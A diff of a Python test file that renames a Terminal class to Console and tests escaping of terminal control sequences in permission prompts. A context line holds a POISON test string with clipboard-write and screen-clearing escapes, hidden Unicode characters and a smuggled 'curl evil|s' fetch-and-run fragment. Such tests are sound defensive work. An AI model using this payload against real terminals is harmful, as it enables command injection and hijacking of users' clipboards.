@@ -6,9 +6,9 @@ import shlex
 import pytest
 from msgspec import Raw
 
-from bascule.commands.asking import command_line, elsewhere
+from bascule.commands.console import Console
+from bascule.commands.request_prompt import command_line, elsewhere
 from bascule.commands.screen import screened
-from bascule.commands.terminal import Terminal
 from bascule.model.events import PermissionRequested
 from bascule.policy.visible import has_hidden, json_visible
 
@@ -17,7 +17,7 @@ POISON = "x\x1b]52;c;aGk=\x07\x1b[2J\x9b1m\x7f\u202e\u200b\U000e0041;curl evil|s
 
 @pytest.mark.row("F2", "S59")
 def test_only_our_own_colours_pass():
-    ours = Terminal(colour=True).style("bold", "bold") + " é 👩\u200d👧\tx\n"
+    ours = Console(colour=True).style("bold", "bold") + " é 👩\u200d👧\tx\n"
     assert screened(ours) == ours
     assert screened("a\x1b[5mb\x1b]0;t\x07\r\x9bc\u202e") == (
         "a\\u{1b}[5mb\\u{1b}]0;t\\u{7}\\u{d}\\u{9b}c\\u{202e}"
